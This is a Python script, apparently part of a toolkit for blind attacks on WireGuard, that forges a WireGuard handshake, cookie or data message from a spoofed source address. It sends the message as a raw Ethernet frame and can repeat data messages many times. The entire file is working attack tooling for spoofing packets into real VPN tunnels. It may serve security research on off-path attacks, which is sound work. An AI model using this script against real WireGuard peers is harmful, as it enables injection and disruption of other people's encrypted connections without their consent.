#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""blind_say DEVICE MAC FROM TO KIND [KEY SENDER] [RECEIVER] [SIZE] [TIMES]: sends one WireGuard message, as if from FROM, in a frame.

KIND is initiation KEY SENDER, response KEY SENDER RECEIVER, cookie RECEIVER, or data RECEIVER [SIZE [TIMES]]. KEY is the receiver's public key,
SIZE the bytes of the whole message. FROM and TO are like 192.0.2.1:51820 or [2001:db8::1]:51820."""
import ipaddress
import os
import struct
import sys

sys.dont_write_bytecode = True
import wgpackets                                                           # noqa: E402
from frame_out import FrameOut                                             # noqa: E402
from blind_attack import ipv4, ipv6, udp                                   # noqa: E402

device, mac, frm, to, kind, *rest = sys.argv[1:]


def end(text):
    address, _, port = text.rpartition(':')
    return ipaddress.ip_address(address.strip('[]')).packed, int(port)


def handshake(key, *indices):
    number = wgpackets.INITIATION if kind == 'initiation' else wgpackets.RESPONSE
    return wgpackets.handshake(struct.pack(f'<{1 + len(indices)}I', number, *map(int, indices)), wgpackets.mac1_key(key))


def other(receiver, size=32):
    number = wgpackets.COOKIE if kind == 'cookie' else wgpackets.DATA
    head = struct.pack('<II', number, int(receiver))
    return head + os.urandom(wgpackets.LENGTHS.get(number, int(size)) - len(head))


payload = handshake(*rest) if kind in ('initiation', 'response') else other(*rest[:2])
(source, sport), (destination, dport) = end(frm), end(to)
packet = (ipv4 if len(source) == 4 else ipv6)(source, destination, udp(source, sport, destination, dport, payload))
out = FrameOut(device)
frame = bytes.fromhex(mac.replace(':', '')) + out.mac + (b'\x08\0' if len(source) == 4 else b'\x86\xdd') + packet
for _ in range(int(rest[2]) if kind == 'data' and len(rest) > 2 else 1):
    out.send(frame)
